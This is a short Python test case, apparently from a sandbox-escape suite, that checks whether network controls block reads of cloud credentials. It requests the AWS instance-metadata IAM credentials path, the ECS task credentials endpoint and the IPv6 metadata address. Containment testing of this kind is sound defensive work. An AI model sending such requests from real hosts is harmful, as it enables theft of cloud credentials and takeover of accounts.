# /// escape
# promise = "S1"
# trick = "It asks the cloud's metadata service for credentials"
# control = { local = ["network"], docker = ["network"] }
# needs = ["listeners"]
# breaks = ["listeners"]
# gets = 3
# ///
import urllib.request

from inside import attempt

for place in (
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.170.2/v2/credentials",
    "http://[fd00:ec2::254]/latest/meta-data/",
):
    attempt(place, lambda place=place: urllib.request.urlopen(place, timeout=0.5).read())
